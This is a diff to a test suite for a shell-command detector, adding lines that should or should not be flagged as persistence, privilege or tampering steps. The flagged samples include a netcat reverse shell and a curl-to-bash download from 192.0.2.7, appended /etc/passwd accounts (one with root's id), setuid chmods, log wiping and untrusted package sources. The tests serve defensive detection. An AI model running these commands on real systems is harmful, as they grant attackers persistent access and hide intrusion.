@@ -45,10 +45,44 @@ describe('is named', () => {
     ['kernel-module', 'modprobe x'],
     ['history-wiping', 'history -c'],
     ['log-wiping', '> /var/log/auth.log'],
+    ['account-file', 'echo "x:x:1001:1001::/home/x:/bin/sh" >> /etc/passwd'],
+    ['account-file', "sed -i '/^x/d' /etc/shadow"],
+    ['network-shell', 'cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 >/tmp/f'],
+    ['setuid', 'chmod +s /opt/x'],
+    ['setuid', 'chmod ug+s /opt/x'],
+    ['cron-entry', 'crontab -u root /tmp/x'],
+    ['log-wiping', 'truncate -s 0 /var/log/syslog'],
+    ['log-wiping', 'journalctl --vacuum-time=1s'],
+    ['download-into-interpreter', 'curl -s http://192.0.2.7/i | bash -e'],
+    [
+      'systemd-unit',
+      'ln -sf /lib/systemd/system/x.service /etc/systemd/system/multi-user.target.wants/x.service || true',
+    ],
+    ['systemd-unit', 'curl -o /etc/systemd/system/x.service http://192.0.2.7/x'],
     ['package-database', 'cp x /var/lib/dpkg/info/bash.prerm'],
+    ['package-database', "sed -i 's/a/b/' /var/lib/dpkg/status"],
+    ['package-source', 'echo "deb http://192.0.2.7/ ./" > /etc/apt/sources.list.d/x.list'],
+    ['package-source', 'echo "deb [trusted=yes] file:/srv ./" >>/etc/apt/sources.list'],
+    ['package-source', 'cp x.gpg /etc/apt/trusted.gpg.d/x.gpg'],
+    ['package-source', 'curl -fsSL https://x.org/key.asc | gpg --dearmor > /etc/apt/keyrings/x.gpg'],
+    ['package-source', 'cat > /etc/yum.repos.d/x.repo <<EOF'],
+    ['package-source', 'add-apt-repository -y ppa:x/y'],
+    ['package-source', 'curl -s https://x.org/key | apt-key add -'],
+    ['package-source', 'rpm --import https://x.org/key'],
+    ['package-tool-configuration', 'echo DPkg::Post-Invoke > /etc/apt/apt.conf.d/99x'],
   ])('%s: %s', (id, line) => {
     expect(ids(line)).toContain(id);
   });
+});
+
+test.each([
+  ['echo "deb http://192.0.2.7/ ./" > /etc/apt/sources.list.d/x.list', ['package-source']],
+  ['cp x /var/lib/dpkg/info/bash.prerm', ['package-database']],
+  ['echo x > /etc/apt/apt.conf.d/99x', ['package-tool-configuration']],
+  ['echo "x::0:0::/root:/bin/sh" >> /etc/passwd', ['root-user']],
+  ['echo "x:x:1001:1001::/:/bin/sh" >> /etc/passwd', ['account-file']],
+])('%s is that and nothing else', (line, expected) => {
+  expect(ids(line)).toEqual(expected);
 });
 
 test.each([
@@ -71,6 +105,27 @@ test.each([
   'cat /etc/passwd',
   'update-rc.d cron defaults >/dev/null',
   'echo "see /etc/pam.d/x"',
+  // Looked at, or written elsewhere.
+  'grep -q x /var/lib/dpkg/status >/dev/null',
+  'cat /etc/apt/sources.list > /tmp/copy',
+  'chmod 0644 /lib/systemd/system/x.service >/dev/null 2>&1',
+  'cp /etc/pam.d/sshd /var/backups/',
+  'cat /etc/cron.d/x 2>/dev/null || true',
+  'sed -n p /etc/apt/sources.list',
+  'echo "installed" >> /var/log/dpkg.log',
+  'chown root:adm /var/log/apt/term.log 2>/dev/null',
+  'cat /etc/passwd >> /tmp/users',
+  'crontab -u root -l',
+  // The group alone, and an id that is not root's.
+  'chmod g+s /var/lib/x',
+  'useradd -o -u 1000 x',
+  // Asked for, not run.
+  'command -v setsid >/dev/null',
+  'command -v nc || exit 0',
+  'nc -z localhost 80 || exit 1',
+  'visudo -cf /etc/sudoers.d/x',
+  'curl -s http://192.0.2.7/x.json | python3 -m json.tool',
+  "wget -qO- http://192.0.2.7/x | perl -ne 'print if /x/'",
 ])('is nothing: %s', (line) => {
   expect(ids(line)).toEqual([]);
 });
